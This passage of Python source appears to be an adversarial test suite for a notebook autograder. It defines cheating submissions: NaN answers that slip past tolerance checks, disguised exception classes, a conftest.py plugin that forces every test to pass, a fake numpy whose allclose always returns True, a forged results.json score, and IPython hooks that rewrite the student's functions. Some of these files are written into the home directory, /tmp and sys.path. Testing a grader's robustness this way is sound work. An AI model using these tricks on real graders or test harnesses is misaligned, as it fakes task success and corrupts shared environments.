        "Every answer is NaN, in the right shape: no comparison of a NaN is true, and none that it is too far off.",
        answers={
            "clip_gradients": cell("""
                def clip_gradients(layers, max_norm=1.0):
                    for layer in layers:
                        layer.grads = {k: None if g is None else g * np.nan for k, g in layer.grads.items()}
                    return np.nan, np.nan
            """),
            "batch_norm": cell("""
                class BatchNorm(Layer):
                    def __init__(self, n_features, eps=1e-5, momentum=0.9):
                        super().__init__()
                        self.running_mean = self.running_var = np.full(n_features, np.nan)

                    def forward(self, x):
                        return x * np.nan

                    def backward(self, dout):
                        self.grads = {"gamma": dout[0] * np.nan, "beta": dout[0] * np.nan}
                        return dout * np.nan
            """),
            "depth_study": cell("""
                def depth_study(depths, build_network, X, t, lr=0.1, steps=200, seed=0):
                    return {d: {"loss": np.full(steps, np.nan), "grad_norms": np.full((steps, d), np.nan)} for d in depths}
            """),
            "gradient_monitor": monitor_that_finds(
                '[Problem(name, "nonfinite", np.nan, np.nan) for _, norms in self.history for name in norms]'
            ),
            "gradient_profile": "def gradient_slope(delta_norms):\n    return np.nan",
        },
    ),
    attack(
        "exceptions-by-name",
        "Everything raises a class that is called like the one asked for, and is no Exception at all.",
        cell("""
            import asyncio, itertools

            def named(name, base):
                return type(name, (base,), {"__str__": lambda self: (_ for _ in ()).throw(self)})

            kinds = itertools.cycle([named("ValueError", BaseException), named("NotDefined", KeyboardInterrupt),
                                     named("StudentError", GeneratorExit), named("Failed", AssertionError),
                                     named("ValueError", asyncio.CancelledError), named("OutOfTime", BaseException)])

            def fail(*args, **settings):
                raise next(kinds)()
        """),
        answers=answering("fail()"),
    ),
    attack(
        "configuration-left",
        "Files that pytest, Python, IPython, matplotlib or nbgrader would read are written wherever that is possible.",
        trying(r"""
            import glob
            plugin = "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
            plugin += "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
            files = {"conftest.py": plugin, "pytest.ini": "[pytest]\naddopts = --collect-only\n",
                     "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil'\n", "sitecustomize.py": "raise SystemExit",
                     "usercustomize.py": "raise SystemExit", "numpy.py": "allclose = lambda *a, **k: True",
                     "msgpack.py": "packb = unpackb = None", "reference.py": "", "matplotlibrc": "backend: nowhere",
                     "nbgrader_config.py": "raise SystemExit", "jupyter_config.py": "raise SystemExit",
                     "ipython_config.py": "raise SystemExit", "results.json": '{"score": 36.0}'}
            places = {".", "..", os.path.expanduser("~"), os.path.expanduser("~/.ipython/profile_default"), "{course}",
                      os.path.expanduser("~/.config/matplotlib"), os.environ.get("MPLCONFIGDIR", "."), "/tmp", *sys.path}
            for place in places:
                for name, text in files.items():
                    try:
                        os.makedirs(place or ".", exist_ok=True)
                        with open(os.path.join(place, name), "x") as file:
                            file.write(text)
                    except OSError:
                        pass
        """),
        answers=WRONG,
    ),
    attack(
        "hooks-of-the-shell",
        "Every hook that IPython has rewrites what the later cells, which are honest stubs, define.",
        cell(r"""
            import ast
            shell = get_ipython()

            class Right(ast.NodeTransformer):
                def visit_FunctionDef(self, node):
                    node.body = ast.parse("return __import__('autograder').oracle").body
                    return node

            def claim(*args, **settings):
                for name in ("clip_gradients", "depth_study", "gradient_slope"):
                    shell.user_ns[name] = lambda *args, **settings: (1.0, 1.0)

            shell.ast_transformers.append(Right())
            shell.input_transformers_post.append(lambda lines: [line.replace("raise NotImplementedError", "return 0.0") for line in lines])
            for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell", "shell_initialized"):
                shell.events.register(event, claim)
            shell.set_custom_exc((BaseException,), lambda *args, **settings: [])
            shell.display_pub.publish = lambda *args, **settings: None
            shell.user_ns_hidden.update(shell.user_ns)
        """),
    ),
)
